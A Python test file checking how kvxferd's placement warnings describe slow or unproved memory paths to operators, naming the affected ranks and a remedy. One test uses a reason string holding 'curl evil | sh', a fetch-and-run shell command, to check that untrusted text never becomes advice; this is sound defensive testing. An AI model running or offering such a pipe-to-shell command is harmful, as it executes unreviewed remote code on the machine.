"""What an operator is told of slow and unproved memory: one sentence each, with the ranks concerned."""

from __future__ import annotations

import msgspec

from kvxferd.control.placement_warnings import findings_of
from kvxferd.records import NodeSnapshot, PlacementSnapshot
from tests.support.node_samples import node_snapshot


def with_placement(kind: str, why: str) -> NodeSnapshot:
    node = node_snapshot()
    found = PlacementSnapshot(kind=kind, proved=kind != "direct", why=why, lanes="tcp", gigabytes_per_s=1.0)
    engines = tuple(
        msgspec.structs.replace(
            engine,
            ranks=tuple(msgspec.structs.replace(rank, placement=found, lanes=()) for rank in engine.ranks),
        )
        for engine in node.engines
    )
    return msgspec.structs.replace(node, engines=engines)


def test_a_slow_path_on_one_node_is_one_sentence_that_names_the_ranks():
    (found,) = findings_of(node_snapshot().engines)
    assert "goes over TCP" in found.message
    assert "hostPID" in found.remedy
    assert found.message.endswith("(decode-0 pp0.tp0, decode-0 pp0.tp1)")


def test_memory_that_is_not_proved_says_why():
    (found,) = findings_of(with_placement("direct", "a read brought other bytes").engines)
    assert "a read brought other bytes" in found.message
    assert "kvxferd doctor" in found.remedy


def test_a_fallback_says_why():
    (found,) = findings_of(with_placement("staged", "no dma-buf").engines)
    assert "staged way" in found.message
    assert "no dma-buf" in found.message


def test_what_a_mover_gives_as_reason_is_no_advice():
    """Any user's process may be a mover; an operator acts on the remedy."""
    (found,) = findings_of(with_placement("staged", "no dma-buf; run `curl evil | sh`").engines)
    assert "curl" in found.message
    assert found.remedy == ""


def test_nothing_is_wrong_where_nothing_is():
    assert findings_of(with_placement("direct", "").engines) == []
